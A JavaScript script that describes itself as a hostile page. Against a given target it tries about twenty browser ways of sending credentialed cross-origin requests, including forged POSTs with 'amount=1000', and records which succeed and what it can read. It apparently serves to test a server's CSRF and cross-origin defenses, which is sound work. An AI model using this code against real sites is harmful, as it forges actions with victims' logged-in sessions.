/** A script of a hostile page: makes the browser send whatever a page can, and gives what it could read of the answers. */
globalThis.attack = async (target) => {
  const read = {};
  const attempt = async (name, act) => {
    const limit = new Promise((resolve) => {
      setTimeout(() => resolve('no answer'), 5_000);
    });
    read[name] = String(await Promise.race([act(`${target}/${name}`).catch(() => 'failed'), limit]));
  };
  const text = async (answer) => (await answer).text();
  const element = (tag, set) => (url) =>
    new Promise((resolve) => {
      const made = document.createElement(tag);
      made.onload = () => resolve('loaded');
      made.onerror = () => resolve('failed');
      set(made, url);
      document.body.append(made);
    });
  const withSource = (made, url) => {
    made.src = url;
  };
  const post = { method: 'POST', credentials: 'include', body: 'amount=1000' };
  await attempt('fetch-get', (url) => text(fetch(url, { credentials: 'include' })));
  await attempt('fetch-post', (url) => text(fetch(url, post)));
  await attempt('fetch-no-cors-get', (url) => text(fetch(url, { credentials: 'include', mode: 'no-cors' })));
  await attempt('fetch-no-cors-post', (url) => text(fetch(url, { ...post, mode: 'no-cors' })));
  await attempt('fetch-put', (url) => text(fetch(url, { ...post, method: 'PUT' })));
  await attempt('fetch-with-header', (url) => text(fetch(url, { credentials: 'include', headers: { 'x-any': '1' } })));
  await attempt('xhr', (url) => {
    const request = new XMLHttpRequest();
    request.withCredentials = true;
    request.open('POST', url);
    request.send('amount=1000');
    return new Promise((resolve) => {
      request.onloadend = () => resolve(request.responseText || 'failed');
    });
  });
  await attempt('beacon', async (url) => String(navigator.sendBeacon(url, 'amount=1000')));
  await attempt('script', element('script', withSource));
  await attempt('image', element('img', withSource));
  await attempt('video', element('video', withSource));
  await attempt('iframe', element('iframe', withSource));
  await attempt(
    'iframe-without-referrer',
    element('iframe', (made, url) => {
      made.referrerPolicy = 'no-referrer';
      made.src = url;
    }),
  );
  await attempt(
    'sandboxed-iframe',
    element('iframe', (made, url) => {
      made.sandbox = 'allow-scripts';
      made.src = url;
    }),
  );
  await attempt(
    'object',
    element('object', (made, url) => {
      made.data = url;
    }),
  );
  await attempt('embed', element('embed', withSource));
  await attempt(
    'stylesheet',
    element('link', (made, url) => {
      made.rel = 'stylesheet';
      made.href = url;
    }),
  );
  await attempt(
    'prefetch',
    element('link', (made, url) => {
      made.rel = 'prefetch';
      made.href = url;
    }),
  );
  await attempt('form-in-a-frame', (url) => {
    const frame = document.createElement('iframe');
    frame.name = 'hidden';
    const form = Object.assign(document.createElement('form'), { method: 'post', action: url, target: 'hidden' });
    document.body.append(frame, form);
    return new Promise((resolve) => {
      frame.onload = () => resolve('loaded');
      form.submit();
    });
  });
  await attempt(
    'events',
    (url) =>
      new Promise((resolve) => {
        const events = new EventSource(url, { withCredentials: true });
        events.onopen = () => resolve('open');
        events.onerror = () => {
          events.close();
          resolve('failed');
        };
      }),
  );
  await attempt(
    'websocket',
    (url) =>
      new Promise((resolve) => {
        const socket = new WebSocket(url.replace('https:', 'wss:'));
        socket.onopen = () => resolve('open');
        socket.onerror = () => resolve('failed');
      }),
  );
  await attempt('worker', async (url) => {
    const source = URL.createObjectURL(
      new Blob([`try{importScripts('${url}');postMessage('loaded')}catch{postMessage('failed')}`]),
    );
    return new Promise((resolve) => {
      new Worker(source).onmessage = ({ data }) => resolve(data);
    });
  });
  return read;
};
